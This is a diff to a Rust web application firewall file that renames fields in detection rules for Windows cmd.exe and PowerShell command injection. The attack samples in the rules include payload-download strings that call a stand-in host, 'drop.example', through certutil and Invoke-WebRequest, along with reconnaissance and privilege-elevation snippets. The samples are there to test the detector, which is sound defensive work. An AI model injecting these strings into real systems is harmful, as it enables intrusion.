@@ -3,14 +3,17 @@
 use waf_shared::catalog::Leaf;
 
 use crate::field::Places;
-use crate::rule::{Rule, STRONG, Test};
+use crate::rule::{Rule, RuleMatcher, STRONG};
+
+/// The rules of this file.
+pub(super) static RULES: &[&Rule] = &[&COMMAND, &COMMAND_LIKE, &POWERSHELL, &POWERSHELL_LIKE];
 
 pub(super) static COMMAND: Rule = Rule {
     id: "command-injection-windows-cmd/command-line",
     leaf: Leaf::CommandInjectionWindowsCmd,
     weight: STRONG,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "A program or construct of cmd.exe stands in a command's place.",
     attacks: &[
         "& dir c:\\",
@@ -21,7 +24,7 @@ pub(super) static COMMAND: Rule = Rule {
         "& certutil -urlcache -f http://drop.example/a.exe a.exe",
         "| ipconfig /all",
     ],
-    everyday: &[
+    benign: &[
         "R&D",
         "Terms & conditions",
         "type | size | colour",
@@ -37,10 +40,10 @@ pub(super) static COMMAND_LIKE: Rule = Rule {
     leaf: Leaf::CommandInjectionWindowsCmd,
     weight: 1,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "Something that could be a command of cmd.exe, or prose about one.",
     attacks: &["we tried it all; ipconfig", "certutil -v", "bcdedit -v"],
-    everyday: &["start & end", "copy | paste", "move; rename; delete"],
+    benign: &["start & end", "copy | paste", "move; rename; delete"],
 };
 
 pub(super) static POWERSHELL: Rule = Rule {
@@ -48,7 +51,7 @@ pub(super) static POWERSHELL: Rule = Rule {
     leaf: Leaf::CommandInjectionPowershell,
     weight: STRONG,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "A cmdlet, its alias or an encoded command of PowerShell.",
     attacks: &[
         "Invoke-WebRequest http://drop.example/a.ps1",
@@ -57,7 +60,7 @@ pub(super) static POWERSHELL: Rule = Rule {
         "$c = New-Object Net.WebClient",
         "| Start-Process calc.exe -Verb runas",
     ],
-    everyday: &[
+    benign: &[
         "a set-top box and a start-up",
         "the PowerShell course starts on Monday",
         "write-off of the new-item stock",
@@ -70,12 +73,12 @@ pub(super) static POWERSHELL_LIKE: Rule = Rule {
     leaf: Leaf::CommandInjectionPowershell,
     weight: 1,
     places: Places::REQUEST,
-    test: Test::Judged,
+    matcher: RuleMatcher::Detected,
     summary: "A cmdlet of PowerShell is named in a text.",
     attacks: &[
         "the Get-Process cmdlet lists them",
         "use Invoke-RestMethod here",
         "what does Get-ChildItem do",
     ],
-    everyday: &["out-of-date", "get-together", "add-on service"],
+    benign: &["out-of-date", "get-together", "add-on service"],
 };
